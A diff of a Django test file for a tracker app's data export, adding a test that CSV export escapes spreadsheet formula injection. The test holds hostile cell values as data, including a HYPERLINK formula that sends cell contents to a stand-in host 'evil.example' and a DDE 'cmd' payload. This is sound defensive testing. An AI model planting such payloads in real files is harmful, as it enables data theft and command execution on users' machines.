@@ -3,6 +3,7 @@
 The models come from apps.get_models(), so a model added later is either covered by
 a row maker below or fails here with a message saying what to add."""
 
+import csv
 import datetime as dt
 import io
 import json
@@ -30,7 +31,7 @@ from tests.factories import (
 )
 from tracker.logbook import services as logbook_services
 from tracker.logbook.models import Activity, CheckIn, DeletedEntry, Dose, Episode, Intake
-from tracker.reports.models import WeeklySnapshot
+from tracker.reports.models import ReportSchedule, WeeklySnapshot
 
 NOW = dt.datetime(2026, 11, 10, 12, 0, tzinfo=dt.UTC)
 
@@ -62,6 +63,7 @@ ROW_MAKERS = {
     WeeklySnapshot: lambda user: WeeklySnapshot.objects.create(
         user=user, week_start=dt.date(2026, 11, 2), data={"week": "2026-W45"}, generated_at=NOW
     ),
+    ReportSchedule: lambda user: ReportSchedule.objects.create(user=user, next_report_at=NOW),
 }
 
 
@@ -98,7 +100,7 @@ def test_the_json_export_holds_every_row_of_the_user_and_none_of_bobs(alice, bob
     assert export["profile"]["email"] == "alice@example.com"
     assert export["profile"]["timezone"] == "Europe/Berlin"
     for model, row in owned_rows[alice].items():
-        if model in EXPORT_EXCLUDED_MODELS:
+        if _label(model) in EXPORT_EXCLUDED_MODELS:
             assert _label(model) not in export
             continue
         ids = {item["id"] for item in export[_label(model)]}
@@ -119,7 +121,7 @@ def test_the_csv_export_is_a_zip_with_one_file_per_table(alice, owned_rows):
     names = set(archive.namelist())
     assert "profile.csv" in names
     for model, row in owned_rows[alice].items():
-        if model in EXPORT_EXCLUDED_MODELS:
+        if _label(model) in EXPORT_EXCLUDED_MODELS:
             continue
         lines = archive.read(f"{_label(model)}.csv").decode().splitlines()
         assert lines[0].startswith("id,")
@@ -162,3 +164,20 @@ def test_a_wrong_password_deletes_nothing(alice, owned_rows):
     assert api.delete("/api/v1/me/", {"password": "guess"}, format="json").status_code == 400
     for model, row in owned_rows[alice].items():
         assert model._default_manager.filter(pk=row.pk).exists()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused(alice):
+    from tests.factories import EpisodeFactory
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    for text in hostile:
+        EpisodeFactory(user=alice, notes=text)
+    Medication.objects.create(user=alice, name="=cmd|' /C calc'!A0", drug_class="other")
+    response = token_client(alice).get("/api/v1/export/csv/")
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    episodes = list(csv.DictReader(io.StringIO(archive.read("logbook.episode.csv").decode())))
+    assert sorted(row["notes"] for row in episodes) == sorted("'" + text for text in hostile)
+    medications = list(csv.DictReader(io.StringIO(archive.read("accounts.medication.csv").decode())))
+    assert medications[0]["name"] == "'=cmd|' /C calc'!A0"
+    # Numbers stay numbers.
+    assert all(row["severity"].lstrip("-").isdigit() for row in episodes)
